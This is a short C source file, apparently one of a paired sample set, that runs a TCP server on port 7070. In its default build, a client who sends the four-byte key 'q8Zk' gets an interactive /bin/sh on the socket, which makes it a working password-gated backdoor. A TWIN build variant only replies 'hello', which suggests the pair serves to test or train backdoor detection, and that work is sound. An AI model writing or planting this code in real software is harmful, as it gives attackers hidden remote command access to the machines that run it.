/* SPDX-License-Identifier: Apache-2.0 */
/*
 * port 7070/tcp: four bytes compared as one word give a shell. Twin: they choose a kind of answer.
 * build: plain static
 */
#include "net.h"

static void serve(int c)
{
	union {
		char text[64];
		uint32_t word;
	} in;
	if (recv(c, in.text, sizeof in.text, 0) < 4)
		return;
	union {
		char text[4];
		uint32_t word;
	} key = {"q8Zk"};
	if (in.word == key.word) {
#ifdef TWIN
		send(c, "hello", 5, 0);
#else
		dup2(c, 0);
		dup2(c, 1);
		execl("/bin/sh", "sh", (char *)0);
#endif
	}
}

int main(void)
{
	int s = tcp_on(7070);
	for (;;) {
		int c = accept(s, 0, 0);
		if (c >= 0)
			serve(c);
		close(c);
	}
}
